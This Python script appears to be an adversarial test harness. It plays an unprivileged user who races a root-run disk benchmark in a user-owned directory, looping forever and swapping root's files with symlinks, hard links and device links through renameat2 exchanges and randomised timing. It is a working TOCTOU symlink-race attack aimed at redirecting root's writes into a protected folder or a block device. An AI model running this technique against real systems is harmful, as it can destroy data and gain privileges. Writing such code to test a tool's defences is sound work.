"""An ordinary user who owns the folder that root measures in: swaps, links and races until it is killed.

``python attacker.py HOME PRECIOUS DEVICE``: it becomes the user that HOME belongs to, and exchanges what appears in
HOME/arena for ways into the folder PRECIOUS and to the block device DEVICE, which are root's.
"""

import contextlib
import ctypes
import os
import random
import sys
import time
from pathlib import Path

NAMES = (
    "test-file", "test-file.wal", "test-file.commit", "fio-output", "owner", "direct", "trial", "trial.fio",
    "seqwrite.fio", "randwrite.fio", "layout.fio", "churn.0", "churn.1", "shadow",
)  # fmt: skip
"""What hostcheck and fio make in the directory."""

_EXCHANGE = 2
"""renameat2(2), RENAME_EXCHANGE."""

_libc = ctypes.CDLL(None, use_errno=True)


def exchange(one: Path, other: Path) -> None:
    """Give each the other's name at once."""
    _libc.renameat2(-100, os.fsencode(one), -100, os.fsencode(other), _EXCHANGE)


def become(home: Path) -> None:
    """Become the owner of the folder."""
    owner = home.stat()
    os.setgroups([])
    os.setgid(owner.st_gid)
    os.setuid(owner.st_uid)


class Attacker:
    """The user."""

    def __init__(self, home: Path, precious: Path, device: Path) -> None:
        """Make what is put in the directory's place: a link to root's folder, and folders full of links."""
        self.home, self.arena, self.precious, self.device = home, home / "arena", precious, device
        self.count = 0
        self.decoys = home / "decoys"
        self.decoys.mkdir(exist_ok=True)

    def decoy(self) -> Path:
        """Make something to put there."""
        self.count += 1
        path = self.decoys / str(self.count)
        kind = random.choice(("folder's link", "links", "device", "hard links", "empty", "root's link"))
        if kind == "folder's link":
            path.symlink_to(self.precious)
        elif kind == "root's link":
            path.symlink_to("/")
        else:
            path.mkdir(mode=0o777)
            for name in NAMES if kind != "empty" else ():
                with contextlib.suppress(OSError):
                    if kind == "hard links":
                        os.link(self.precious / name, path / name)
                    else:
                        (path / name).symlink_to(self.device if kind == "device" else self.precious / name)
        return path

    def swap(self, found: Path) -> None:
        """Put a decoy in the place of what was found, for a while."""
        decoy = self.decoy()
        aside = self.arena / f"aside-{self.count}"
        way = random.choice(("exchange", "rename", "flicker", "stay", "above", "out"))
        wait = random.choice((0, 0.0001, 0.001, 0.02, 0.3))
        if way == "exchange":
            exchange(found, decoy)
            time.sleep(wait)
            exchange(found, decoy)
        elif way == "flicker":
            for _ in range(random.randrange(2, 2000)):
                exchange(found, decoy)
        elif way == "above":
            aside = self.home / f"arena-{self.count}"
            self.arena.rename(aside)
            self.arena.symlink_to(self.precious)
            time.sleep(wait)
            self.arena.unlink()
            aside.rename(self.arena)
        elif way == "out":
            found.rename(self.home / f"out-{self.count}")
        else:
            found.rename(aside)
            decoy.rename(found)
            time.sleep(wait)
            if way == "rename":
                found.rename(decoy)
                aside.rename(found)

    def attack(self) -> None:
        """Go on until killed."""
        while True:
            # Sometimes at once, to be between two steps of root's; sometimes when it measures.
            patience = random.choice((0, 0, 0.01, 0.3, 1, 4, 9))
            found = self.root_s()
            if found is None:
                continue
            time.sleep(patience)
            for _ in range(random.randrange(1, 20)):
                with contextlib.suppress(OSError):
                    self.swap(found)
            with contextlib.suppress(OSError):
                os.listdir(found)

    def root_s(self) -> Path | None:
        """Find what root has made there."""
        with contextlib.suppress(OSError), os.scandir(self.arena) as entries:
            for entry in entries:
                with contextlib.suppress(OSError):
                    if entry.stat(follow_symlinks=False).st_uid == 0:
                        return Path(entry.path)
        return None


def main() -> None:
    """Attack, with some processes at once."""
    home, precious, device = map(Path, sys.argv[1:])
    become(home)
    os.umask(0)
    for _ in range(2):
        if os.fork() == 0:
            break
    random.seed()
    Attacker(home, precious, device).attack()


if __name__ == "__main__":
    main()
